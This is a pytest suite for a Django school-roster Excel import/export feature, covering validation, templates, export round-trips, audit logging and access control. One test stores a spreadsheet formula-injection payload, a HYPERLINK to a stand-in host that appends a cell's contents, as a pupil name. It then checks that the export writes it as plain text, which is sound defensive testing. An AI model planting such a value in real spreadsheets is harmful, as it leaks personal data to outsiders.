"""Roster import/export in Excel: the file format, all-or-nothing import, access and audit."""

import datetime
import io
import unicodedata
import zipfile

import openpyxl
import pytest
from django.contrib.messages import get_messages
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from diemtua.accounts import services as account_services
from diemtua.accounts.roles import Role
from diemtua.audit.models import AuditEvent
from diemtua.orgs import services as org_services
from diemtua.orgs.models import OrgKind, SchoolLevel
from diemtua.students import roster, roster_workbook, services
from diemtua.students.models import Disability, Guardian, Student

HEADERS = [column.header for column in roster.COLUMNS]
TODAY = datetime.date.today()


class RosterWorld:
    pass


def _user(username, role, unit):
    user = account_services.user_create(
        actor=None, username=username, full_name=username.title(), password=None
    )
    account_services.membership_grant(actor=None, user=user, org_unit=unit, role=role)
    return user


@pytest.fixture
def rw(db):
    w = RosterWorld()
    create = org_services.org_unit_create
    ministry = create(actor=None, kind=OrgKind.MINISTRY, name="Bộ GD&ĐT", code="R-BGD")
    dept = create(
        actor=None, kind=OrgKind.DEPARTMENT, name="Sở GD&ĐT Lào Cai", code="R-15", parent=ministry
    )
    commune = create(actor=None, kind=OrgKind.COMMUNE, name="Xã Bắc Hà", code="R-0001", parent=dept)
    w.school = create(
        actor=None,
        kind=OrgKind.SCHOOL,
        name="Trường PTDTBT THCS Bắc Hà",
        code="15-BH",
        parent=commune,
        school_level=SchoolLevel.LOWER_SECONDARY,
    )
    w.other_school = create(
        actor=None,
        kind=OrgKind.SCHOOL,
        name="Trường THCS Bí Mật",
        code="15-BM",
        parent=commune,
        school_level=SchoolLevel.LOWER_SECONDARY,
    )
    w.primary = create(
        actor=None,
        kind=OrgKind.SCHOOL,
        name="Trường Tiểu học Bắc Hà",
        code="15-TH",
        parent=commune,
        school_level=SchoolLevel.PRIMARY,
    )
    w.counselor = _user("roster.tv", Role.COUNSELOR, w.school)
    w.other_counselor = _user("roster.tv2", Role.COUNSELOR, w.other_school)
    w.teacher = _user("roster.gv", Role.TEACHER, w.school)
    w.lead = _user("roster.bgh", Role.SCHOOL_LEAD, w.school)
    return w


def _born(age: int, month: int = 3, day: int = 14) -> datetime.date:
    return datetime.date(TODAY.year - age, month, day)


def _dmy(day: datetime.date) -> str:
    return day.strftime("%d/%m/%Y")


def _row(**values) -> dict:
    """One pupil, by header; defaults give a valid grade-6 pupil without identifier."""
    row = {
        "Mã định danh": "",
        "Họ và tên": "Vàng Thị Mai",
        "Giới tính": "Nữ",
        "Ngày sinh": _dmy(_born(12)),
        "Khối": 6,
        "Lớp": "6A",
        "Dân tộc": "Mông",
        "Khuyết tật": "",
        "Họ tên phụ huynh": "",
        "Quan hệ": "",
        "SĐT phụ huynh": "",
    }
    row.update(values)
    return row


def _xlsx_bytes(rows: list[dict], headers: list[str] | None = None) -> bytes:
    headers = headers or HEADERS
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(headers)
    for row in rows:
        sheet.append([row.get(header, "") for header in headers])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _upload(content: bytes, name: str = "danh-sach.xlsx") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type=roster.XLSX_CONTENT_TYPE)


def _import(rw, content: bytes, school=None):
    return services.roster_import(
        actor=rw.counselor, school=school or rw.school, file=_upload(content)
    )


def _post(client, rw, content: bytes, school=None, name="danh-sach.xlsx"):
    school = school or rw.school
    return client.post(
        f"{reverse('student_import')}?school={school.pk}",
        {"school": school.pk, "file": _upload(content, name)},
    )


def _sheet_rows(content: bytes, sheet: int = 0) -> list[tuple]:
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    return list(workbook.worksheets[sheet].iter_rows(values_only=True))


GOOD_ROWS = [
    _row(
        **{
            "Mã định danh": "0123456789",
            "Họ và tên": "Giàng A Páo",
            "Giới tính": "Nam",
            "Họ tên phụ huynh": "Giàng A Chơ",
            "Quan hệ": "Bố",
            "SĐT phụ huynh": "0987 654 321",
        }
    ),
    _row(
        **{
            "Họ và tên": "Lò Thị Dua",
            "Ngày sinh": _born(13),  # an Excel date cell, not text
            "Khối": 7,
            "Lớp": "7b",
            "Dân tộc": "thai",
            "Khuyết tật": "Khuyết tật nhìn",
            "Họ tên phụ huynh": "Lò Văn Sáng",
            "Quan hệ": "mẹ",
        }
    ),
    _row(**{"Họ và tên": "Nguyễn Minh Khôi", "Giới tính": "male", "Dân tộc": ""}),
]


# --- import: the happy path -----------------------------------------------------------------


def test_good_file_imports_every_row_with_guardians(rw, client):
    client.force_login(rw.counselor)
    response = _post(client, rw, _xlsx_bytes(GOOD_ROWS))
    assert response.status_code == 302
    assert response["Location"] == f"{reverse('student_list')}?school={rw.school.pk}"
    assert [str(m) for m in get_messages(response.wsgi_request)] == [
        "Đã nhập 3 học sinh (3 mới, 0 cập nhật)."
    ]
    students = {s.full_name: s for s in Student.objects.filter(school=rw.school)}
    assert set(students) == {"Giàng A Páo", "Lò Thị Dua", "Nguyễn Minh Khôi"}
    pao, dua, khoi = students["Giàng A Páo"], students["Lò Thị Dua"], students["Nguyễn Minh Khôi"]
    assert (pao.national_id, pao.gender, pao.ethnicity, pao.grade) == (
        "0123456789",
        "male",
        "Mông",
        6,
    )
    assert (dua.class_name, dua.grade, dua.ethnicity, dua.disability) == (
        "7B",
        7,
        "Thái",
        Disability.VISUAL,
    )
    assert dua.date_of_birth == _born(13)
    assert (khoi.national_id, khoi.ethnicity, khoi.gender) == (None, "Kinh", "male")
    father = Guardian.objects.get(student=pao)
    assert (father.full_name, father.relationship, father.phone) == (
        "Giàng A Chơ",
        "father",
        "0987654321",
    )
    assert Guardian.objects.get(student=dua).relationship == "mother"
    assert not Guardian.objects.filter(student=khoi).exists()


def test_headers_match_without_case_diacritics_or_order(rw):
    headers = ["ho va ten", "LỚP", "ngay sinh (dd/mm/yyyy)", "Ghi chú", "Giới Tính", "ma dinh danh"]
    rows = [
        {
            "ho va ten": "Thào Seo Lử",
            "LỚP": "Lớp 8C",
            "ngay sinh (dd/mm/yyyy)": _dmy(_born(14)),
            "Ghi chú": "cột lạ bị bỏ qua",
            "Giới Tính": "nam",
            "ma dinh danh": 12345678901,  # a number cell
        }
    ]
    result = _import(rw, _xlsx_bytes(rows, headers))
    assert result.ok, result.errors
    student = Student.objects.get(school=rw.school)
    # No "Khối" column: the grade comes from the class name.
    assert (student.class_name, student.grade, student.national_id) == ("8C", 8, "12345678901")


def test_names_typed_on_a_mac_are_stored_composed(rw):
    decomposed = unicodedata.normalize("NFD", "Hoàng Thị Thuỷ")
    assert _import(rw, _xlsx_bytes([_row(**{"Họ và tên": decomposed})])).ok
    student = Student.objects.get(school=rw.school)
    assert student.full_name == unicodedata.normalize("NFC", "Hoàng Thị Thuỷ")
    assert student.search_name == "hoang thi thuy"


def test_reimport_updates_instead_of_duplicating(rw, client):
    assert _import(rw, _xlsx_bytes(GOOD_ROWS)).ok
    moved = [dict(row) for row in GOOD_ROWS]
    moved[0]["Lớp"], moved[0]["Họ và tên"] = "6B", "Giàng A Páo (sửa tên)"  # matched by identifier
    moved[2]["Lớp"] = "6C"  # no identifier: matched by name and date of birth
    moved[1]["SĐT phụ huynh"] = "0911222333"
    client.force_login(rw.counselor)
    response = _post(client, rw, _xlsx_bytes(moved))
    assert response.status_code == 302
    assert [str(m) for m in get_messages(response.wsgi_request)] == [
        "Đã nhập 3 học sinh (0 mới, 3 cập nhật)."
    ]
    assert Student.objects.filter(school=rw.school).count() == 3
    pao = Student.objects.get(national_id="0123456789")
    assert (pao.class_name, pao.full_name) == ("6B", "Giàng A Páo (sửa tên)")
    assert Student.objects.get(full_name="Nguyễn Minh Khôi").class_name == "6C"
    assert Guardian.objects.filter(student__school=rw.school).count() == 2
    dua_guardian = Guardian.objects.get(student__full_name="Lò Thị Dua")
    assert (dua_guardian.relationship, dua_guardian.phone) == ("mother", "0911222333")


def test_identifier_added_later_updates_the_pupil_entered_without_it(rw):
    assert _import(rw, _xlsx_bytes([_row()])).ok
    result = _import(rw, _xlsx_bytes([_row(**{"Mã định danh": "0099887766"})]))
    assert (result.created, result.updated) == (0, 1)
    assert Student.objects.get(school=rw.school).national_id == "0099887766"


def test_columns_missing_from_the_file_are_left_alone_on_update(rw):
    assert _import(rw, _xlsx_bytes([_row(**{"Khuyết tật": "vận động", "Dân tộc": "Tày"})])).ok
    slim = ["Họ và tên", "Giới tính", "Ngày sinh", "Lớp"]
    result = _import(rw, _xlsx_bytes([_row(**{"Lớp": "6D"})], slim))
    assert (result.created, result.updated) == (0, 1)
    student = Student.objects.get(school=rw.school)
    assert (student.class_name, student.ethnicity, student.disability) == (
        "6D",
        "Tày",
        Disability.PHYSICAL,
    )


# --- import: all or nothing ------------------------------------------------------------------


def test_one_bad_row_imports_nothing_and_names_row_and_column(rw, client):
    rows = [*GOOD_ROWS, _row(**{"Họ và tên": "Sùng Thị Dế", "Ngày sinh": "31/02/2012"})]
    client.force_login(rw.counselor)
    response = _post(client, rw, _xlsx_bytes(rows))
    assert response.status_code == 200
    assert not Student.objects.filter(school=rw.school).exists()
    assert not Guardian.objects.exists()
    errors = response.context["errors"]
    assert [(e.row, e.column) for e in errors] == [(5, "Ngày sinh")]
    body = response.content.decode()
    assert "31/02/2012" in body and "Chưa nhập học sinh nào" in body


@pytest.mark.parametrize(
    ("values", "column", "fragment"),
    [
        ({"Họ và tên": ""}, "Họ và tên", "Thiếu họ và tên"),
        ({"Ngày sinh": "2012-13-45"}, "Ngày sinh", "không có trên lịch"),
        ({"Ngày sinh": "sinh năm 2012"}, "Ngày sinh", "không đúng dạng"),
        ({"Ngày sinh": _dmy(TODAY + datetime.timedelta(days=3))}, "Ngày sinh", "tương lai"),
        ({"Ngày sinh": _dmy(_born(2))}, "Ngày sinh", "không hợp lý"),
        ({"Ngày sinh": "01/01/1950"}, "Ngày sinh", "không hợp lý"),
        ({"Ngày sinh": ""}, "Ngày sinh", "Thiếu ngày sinh"),
        ({"Khối": 3, "Lớp": "3A"}, "Khối", "không thuộc cấp học"),
        ({"Khối": 13}, "Khối", "từ 1 đến 12"),
        ({"Khối": "", "Lớp": "Chuyên Anh"}, "Khối", "Thiếu khối"),
        ({"Lớp": ""}, "Lớp", "Thiếu tên lớp"),
        ({"Giới tính": "trai"}, "Giới tính", "Không rõ giới tính"),
        ({"Giới tính": ""}, "Giới tính", "Thiếu giới tính"),
        ({"Dân tộc": "Kinh Tế"}, "Dân tộc", "Không có dân tộc"),
        ({"Khuyết tật": "hơi mệt"}, "Khuyết tật", "Không rõ loại khuyết tật"),
        ({"Mã định danh": "12ab5678"}, "Mã định danh", "8 đến 16 chữ số"),
        ({"Mã định danh": "1234567"}, "Mã định danh", "8 đến 16 chữ số"),
        ({"Họ tên phụ huynh": "Vàng A Tú", "SĐT phụ huynh": "12345"}, "SĐT phụ huynh", "hợp lệ"),
        ({"Quan hệ": "Mẹ"}, "Họ tên phụ huynh", "Thiếu họ tên phụ huynh"),
        ({"Họ tên phụ huynh": "Vàng A Tú", "Quan hệ": "hàng xóm"}, "Quan hệ", "Không rõ quan hệ"),
    ],
)
def test_each_kind_of_bad_cell_is_reported(rw, values, column, fragment):
    result = _import(rw, _xlsx_bytes([_row(), _row(**{"Họ và tên": "Hờ A Dê", **values})]))
    assert not result.ok
    assert [(e.row, e.column) for e in result.errors] == [(3, column)]
    assert fragment in result.errors[0].message
    assert not Student.objects.exists()


def test_identifier_twice_in_the_file(rw):
    rows = [
        _row(**{"Mã định danh": "11112222"}),
        _row(**{"Họ và tên": "B", "Mã định danh": "11112222"}),
    ]
    result = _import(rw, _xlsx_bytes(rows))
    assert [(e.row, e.column) for e in result.errors] == [(3, "Mã định danh")]
    assert "dòng 2" in result.errors[0].message


def test_same_name_and_birth_date_without_identifier_twice(rw):
    result = _import(rw, _xlsx_bytes([_row(), _row(**{"Lớp": "6B"})]))
    assert [(e.row, e.column) for e in result.errors] == [(2, "Họ và tên"), (3, "Họ và tên")]


def test_identifier_of_another_schools_pupil_is_refused_without_naming_it(rw):
    Student.objects.create(
        school=rw.other_school,
        full_name="Học Sinh Khác",
        gender="male",
        date_of_birth=_born(12),
        grade=6,
        class_name="6A",
        national_id="55556666",
    )
    rows = [_row(), _row(**{"Họ và tên": "Học Sinh Khác", "Mã định danh": "55556666"})]
    result = _import(rw, _xlsx_bytes(rows))
    assert [(e.row, e.column) for e in result.errors] == [(3, "Mã định danh")]
    message = result.errors[0].message
    assert "Bí Mật" not in message and "15-BM" not in message
    assert Student.objects.filter(school=rw.school).count() == 0
    assert Student.objects.get(national_id="55556666").school == rw.other_school


def test_grades_follow_the_schools_level(rw):
    primary_row = _row(**{"Khối": 2, "Lớp": "2A", "Ngày sinh": _dmy(_born(7))})
    assert _import(rw, _xlsx_bytes([primary_row]), school=rw.primary).ok
    assert not _import(rw, _xlsx_bytes([primary_row])).ok  # not at a lower secondary school


# --- import: the file itself -----------------------------------------------------------------


def _zip_bytes() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("hello.txt", "not a spreadsheet")
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (b"Ho va ten,Lop\nA,6A\n", "danh-sach.csv"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "cu.xls"),  # old binary Excel
        (b"%PDF-1.4 not really", "danh-sach.xlsx"),
        (_zip_bytes(), "danh-sach.xlsx"),
        (_xlsx_bytes([_row()])[:400], "cut.xlsx"),
    ],
)
def test_a_file_that_is_not_xlsx_gets_a_friendly_message(rw, client, content, name):
    client.force_login(rw.counselor)
    response = _post(client, rw, content, name=name)
    assert response.status_code == 200
    errors = response.context["errors"]
    assert len(errors) == 1 and errors[0].row is None
    assert "Không đọc được tệp" in errors[0].message
    assert not Student.objects.exists()


def test_empty_upload_is_refused_by_the_form(rw, client):
    client.force_login(rw.counselor)
    response = _post(client, rw, b"")
    assert response.status_code == 200
    assert response.context["form"].errors
    assert not Student.objects.exists()


def test_file_over_the_size_limit(rw, settings):
    settings.DIEMTUA_ROSTER_MAX_BYTES = 1000
    result = _import(rw, _xlsx_bytes([_row()]))
    assert len(result.errors) == 1 and "lớn quá" in result.errors[0].message


def test_headers_only_and_blank_sheet(rw):
    assert "chưa có học sinh" in _import(rw, _xlsx_bytes([])).errors[0].message
    workbook = openpyxl.Workbook()
    buffer = io.BytesIO()
    workbook.save(buffer)
    assert "Tệp trống" in _import(rw, buffer.getvalue()).errors[0].message


def test_missing_required_headers_are_named(rw):
    headers = ["Họ và tên", "Giới tính", "Khối"]
    result = _import(rw, _xlsx_bytes([_row()], headers))
    assert [(e.row, e.column) for e in result.errors] == [(1, "Ngày sinh"), (1, "Lớp")]
    assert "Thiếu cột bắt buộc “Ngày sinh”" in result.errors[0].message


def _titled_xlsx(rows: list[dict]) -> bytes:
    """A list as other systems export it: a title and a blank line above the header."""
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(["DANH SÁCH HỌC SINH NĂM HỌC 2025-2026"])
    sheet.append([])
    sheet.append(HEADERS)
    for row in rows:
        sheet.append([row[h] for h in HEADERS])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def test_a_title_above_the_header_row_is_skipped(rw):
    result = _import(rw, _titled_xlsx([_row(), _row(**{"Họ và tên": "B", "Giới tính": "?"})]))
    assert [(e.row, e.column) for e in result.errors] == [(5, "Giới tính")]
    assert _import(rw, _titled_xlsx([_row()])).created == 1


def test_duplicated_header_column(rw):
    result = _import(rw, _xlsx_bytes([_row()], [*HEADERS, "LỚP"]))
    assert [(e.row, e.column) for e in result.errors] == [(1, "Lớp")]


@pytest.mark.parametrize("titled", [False, True])
def test_too_many_rows(rw, monkeypatch, titled):
    monkeypatch.setattr(roster, "MAX_ROWS", 3)
    rows = [_row(**{"Họ và tên": f"Học Sinh {i}"}) for i in range(4)]
    content = _titled_xlsx(rows) if titled else _xlsx_bytes(rows)
    result = _import(rw, content)
    assert len(result.errors) == 1 and "hơn 3 học sinh" in result.errors[0].message
    assert not Student.objects.exists()


def test_blank_rows_are_skipped_and_rows_keep_their_excel_numbers(rw):
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(HEADERS)
    sheet.append([])
    sheet.append([_row()[h] for h in HEADERS])
    sheet.append([_row(**{"Họ và tên": "X", "Giới tính": "?"})[h] for h in HEADERS])
    buffer = io.BytesIO()
    workbook.save(buffer)
    result = _import(rw, buffer.getvalue())
    assert [(e.row, e.column) for e in result.errors] == [(4, "Giới tính")]


# --- template --------------------------------------------------------------------------------


def test_template_downloads_with_guide_and_imports_once_filled(rw, client):
    client.force_login(rw.counselor)
    response = client.get(reverse("student_import_template"), {"school": rw.school.pk})
    assert response.status_code == 200
    assert response["Content-Type"] == roster.XLSX_CONTENT_TYPE
    assert response["Content-Disposition"].startswith("attachment;")
    content = response.content
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    assert workbook.sheetnames[:2] == [roster.ROSTER_SHEET, "Hướng dẫn"]
    rows = _sheet_rows(content)
    assert list(rows[0]) == HEADERS and len(rows) == 2
    guide = "\n".join(str(v) for row in _sheet_rows(content, 1) for v in row if v)
    assert all(header in guide for header in HEADERS)
    assert rows[1][HEADERS.index("Khối")] in rw.school.grades  # the example fits the school

    # Fill in the example row with a real pupil and import the file as downloaded.
    sheet = workbook.worksheets[0]
    sheet.cell(row=2, column=HEADERS.index("Họ và tên") + 1, value="Ma Thị Hoa")
    sheet.cell(row=2, column=HEADERS.index("Mã định danh") + 1, value="0801234567")
    buffer = io.BytesIO()
    workbook.save(buffer)
    result = _import(rw, buffer.getvalue())
    assert result.ok, result.errors
    assert (result.created, result.guardians_created) == (1, 1)
    assert Student.objects.get(school=rw.school).full_name == "Ma Thị Hoa"


# --- export ----------------------------------------------------------------------------------


def test_export_round_trips_through_import(rw, client):
    assert _import(rw, _xlsx_bytes(GOOD_ROWS)).ok
    client.force_login(rw.counselor)
    response = client.get(reverse("student_export"), {"school": rw.school.pk, "class": "6a"})
    assert response.status_code == 200
    assert 'filename="lop-6A-15-BH.xlsx"' in response["Content-Disposition"]
    assert "no-store" in response["Cache-Control"]
    rows = _sheet_rows(response.content)
    assert list(rows[0]) == HEADERS
    assert sorted(r[HEADERS.index("Họ và tên")] for r in rows[1:]) == [
        "Giàng A Páo",
        "Nguyễn Minh Khôi",
    ]
    before = {
        s.pk: (s.full_name, s.class_name, s.grade, s.date_of_birth, s.ethnicity, s.national_id)
        for s in Student.objects.all()
    }
    result = _import(rw, response.content)
    assert result.ok, result.errors
    assert (result.created, result.updated, result.unchanged) == (0, 2, 2)
    after = {
        s.pk: (s.full_name, s.class_name, s.grade, s.date_of_birth, s.ethnicity, s.national_id)
        for s in Student.objects.all()
    }
    assert after == before
    assert Guardian.objects.count() == 2


def test_export_of_a_class_with_disability_and_guardian_round_trips(rw, client):
    assert _import(rw, _xlsx_bytes(GOOD_ROWS)).ok
    client.force_login(rw.counselor)
    response = client.get(reverse("student_export"), {"school": rw.school.pk, "class": "7B"})
    result = _import(rw, response.content)
    assert (result.created, result.updated, result.unchanged) == (0, 1, 1)
    student = Student.objects.get(full_name="Lò Thị Dua")
    assert student.disability == Disability.VISUAL


def test_export_of_an_unknown_or_missing_class_is_friendly(rw, client):
    client.force_login(rw.counselor)
    for params in ({"class": "9Z"}, {}):
        response = client.get(reverse("student_export"), {"school": rw.school.pk, **params})
        assert response.status_code == 302
        assert response["Location"] == f"{reverse('student_list')}?school={rw.school.pk}"
    assert not AuditEvent.objects.filter(action="students.class_export").exists()


# --- audit -----------------------------------------------------------------------------------


def test_import_and_export_write_audit_events(rw, client):
    client.force_login(rw.counselor)
    _post(client, rw, _xlsx_bytes(GOOD_ROWS))
    event = AuditEvent.objects.get(action="students.roster_import")
    assert (event.actor_username, event.org_unit_id) == ("roster.tv", rw.school.pk)
    assert event.extra["created"] == 3 and event.extra["errors"] == 0
    assert event.request_id

    _post(client, rw, _xlsx_bytes([_row(**{"Giới tính": "?"})]))
    failed = AuditEvent.objects.filter(action="students.roster_import").latest("seq")
    assert (failed.extra["created"], failed.extra["errors"]) == (0, 1)

    client.get(reverse("student_export"), {"school": rw.school.pk, "class": "6A"})
    export = AuditEvent.objects.get(action="students.class_export")
    assert export.org_unit_id == rw.school.pk
    assert export.extra == {"class": "6A", "count": 2}


def test_import_audit_holds_counts_not_personal_data(rw):
    _import(rw, _xlsx_bytes(GOOD_ROWS))
    event = AuditEvent.objects.get(action="students.roster_import")
    assert "Páo" not in str(event.extra) and "0123456789" not in str(event.extra)


# --- access ----------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["student_import", "student_import_template", "student_export"])
@pytest.mark.parametrize("person", ["teacher", "lead"])
def test_teacher_and_school_lead_get_403(rw, client, name, person):
    client.force_login(getattr(rw, person))
    response = client.get(reverse(name), {"school": rw.school.pk, "class": "6A"})
    assert response.status_code == 403


def test_teacher_cannot_post_an_import(rw, client):
    client.force_login(rw.teacher)
    assert _post(client, rw, _xlsx_bytes([_row()])).status_code == 403
    assert not Student.objects.exists()


@pytest.mark.parametrize("name", ["student_import", "student_import_template", "student_export"])
def test_counselor_of_another_school_gets_404(rw, client, name):
    client.force_login(rw.other_counselor)
    response = client.get(reverse(name), {"school": rw.school.pk, "class": "6A"})
    assert response.status_code == 404


def test_counselor_of_another_school_cannot_import_into_it(rw, client):
    client.force_login(rw.other_counselor)
    assert _post(client, rw, _xlsx_bytes([_row()])).status_code == 404
    assert not Student.objects.exists()


@pytest.mark.parametrize("school", ["abc", "999999"])
def test_unknown_school_parameter_is_404(rw, client, school):
    client.force_login(rw.counselor)
    assert client.get(reverse("student_import"), {"school": school}).status_code == 404


@pytest.mark.parametrize("name", ["student_import", "student_import_template", "student_export"])
def test_anonymous_is_sent_to_login(rw, client, name):
    response = client.get(reverse(name))
    assert response.status_code == 302 and response["Location"].startswith(reverse("login"))


def test_import_page_and_wrong_method(rw, client):
    client.force_login(rw.counselor)
    response = client.get(reverse("student_import"))  # no ?school=: the counselor's school
    assert response.status_code == 200
    body = response.content.decode()
    assert 'enctype="multipart/form-data"' in body and "csrfmiddlewaretoken" in body
    assert "<script" not in body.split("</head>")[1]  # the CSP forbids inline scripts
    assert client.put(reverse("student_import")).status_code == 405
    assert client.post(reverse("student_import_template")).status_code == 405
    assert client.post(reverse("student_export")).status_code == 405


def test_counselor_of_two_schools_imports_into_the_chosen_one(rw, client):
    account_services.membership_grant(
        actor=None, user=rw.counselor, org_unit=rw.primary, role=Role.COUNSELOR
    )
    client.force_login(rw.counselor)
    page = client.get(reverse("student_import"), {"school": rw.primary.pk})
    assert 'id="import-school"' in page.content.decode()
    primary_row = _row(**{"Khối": 1, "Lớp": "1A", "Ngày sinh": _dmy(_born(6))})
    assert _post(client, rw, _xlsx_bytes([primary_row]), school=rw.primary).status_code == 302
    assert Student.objects.get().school == rw.primary


# --- the file format in detail ---------------------------------------------------------------


@pytest.mark.parametrize(
    ("typed", "stored"),
    [
        ("0912345678", "0912345678"),
        ("0912.345.678", "0912345678"),
        ("+84 912 345 678", "0912345678"),
        (912345678, "0912345678"),  # a number cell lost its leading zero
        ("02143 812 345", "02143812345"),
    ],
)
def test_guardian_phone_numbers_are_normalised(typed, stored):
    assert roster._parse_phone(typed) == stored


@pytest.mark.parametrize(
    ("typed", "name"),
    [("Ede", "Ê Đê"), ("h'mông", "Mông"), ("HMONG", "Mông"), ("bru van kieu", "Bru-Vân Kiều")],
)
def test_ethnicities_match_loosely(typed, name):
    assert roster._parse_ethnicity(typed) == name


def test_ethnicity_keys_are_unambiguous():
    from diemtua.students.ethnicities import ETHNICITIES

    assert len({roster._ethnic_key(name) for name in ETHNICITIES}) == len(ETHNICITIES)


@pytest.mark.parametrize(
    ("typed", "relationship"),
    [("Bà", "grandparent"), ("Ba", "father"), ("Má", "mother"), ("Ông/bà", "grandparent")],
)
def test_relationships_keep_ba_and_ba_apart(typed, relationship):
    assert roster._parse_relationship(typed, roster._relationship_lookup()) == relationship


def test_export_filename_is_ascii():
    assert (
        roster_workbook.export_filename(class_name="6A", school_code="15-BH") == "lop-6A-15-BH.xlsx"
    )
    assert roster_workbook.export_filename(class_name="Đặc biệt 1", school_code="X/1") == (
        "lop-Dac-biet-1-X-1.xlsx"
    )


# --- single-student services -----------------------------------------------------------------


def test_student_create_checks_the_grade_and_writes_audit(rw):
    from django.core.exceptions import ValidationError

    values = {
        "gender": "female",
        "date_of_birth": _born(12),
        "class_name": "6A",
        "full_name": "Mùa Thị Sua",
    }
    with pytest.raises(ValidationError):
        services.student_create(actor=rw.counselor, school=rw.school, grade=3, **values)
    student = services.student_create(actor=rw.counselor, school=rw.school, grade=6, **values)
    assert (student.search_name, student.ethnicity, student.national_id) == (
        "mua thi sua",
        "Kinh",
        None,
    )
    event = AuditEvent.objects.get(action="students.student_create")
    assert (event.object_id, event.org_unit_id) == (str(student.pk), rw.school.pk)


def test_student_update_saves_only_changes_and_names_them_in_audit(rw):
    student = services.student_create(
        actor=rw.counselor,
        school=rw.school,
        full_name="Mùa Thị Sua",
        gender="female",
        date_of_birth=_born(12),
        grade=6,
        class_name="6A",
    )
    services.student_update(actor=rw.counselor, student=student, class_name="6A")
    assert not AuditEvent.objects.filter(action="students.student_update").exists()
    updated = services.student_update(
        actor=rw.counselor, student=student, class_name="7A", grade=7, national_id=""
    )
    assert (updated.class_name, updated.grade, updated.national_id) == ("7A", 7, None)
    event = AuditEvent.objects.get(action="students.student_update")
    assert event.extra == {"changed": ["class_name", "grade"]}
    with pytest.raises(TypeError):
        services.student_update(actor=rw.counselor, student=student, school=rw.other_school)


def test_export_never_writes_a_formula(world, client):
    """A name saved with a leading '=' (e.g. typed in by hand) is exported as plain text."""
    from diemtua.students.models import Student

    Student.objects.filter(pk=world.student_a.pk).update(
        full_name='=HYPERLINK("http://x.example/?"&C2,"Mở")'
    )
    student = Student.objects.get(pk=world.student_a.pk)
    client.force_login(world.users["counselor"])
    response = client.get(reverse("student_export"), {"class": student.class_name})
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value]
    assert any(str(c.value).startswith("=HYPERLINK") for c in cells)
    assert all(c.data_type != "f" for c in cells)


def test_grade_that_contradicts_the_class_name_is_refused(rw):
    result = _import(rw, _xlsx_bytes([_row(), _row(**{"Họ và tên": "Lò Văn Páo", "Khối": 7})]))
    assert not result.ok and result.created == 0
    assert [(e.row, e.column) for e in result.errors] == [(3, "Khối")]
    assert "không khớp với lớp 6A" in result.errors[0].message


def test_the_templates_example_row_is_not_imported(rw):
    example = _row(
        **{"Họ và tên": "Nguyễn Văn Mẫu", "Họ tên phụ huynh": "Trần Thị Mẫu", "Quan hệ": "Mẹ"}
    )
    result = _import(rw, _xlsx_bytes([example, _row()]))
    assert not result.ok and result.created == 0
    assert "dòng ví dụ" in result.errors[0].message and result.errors[0].row == 2
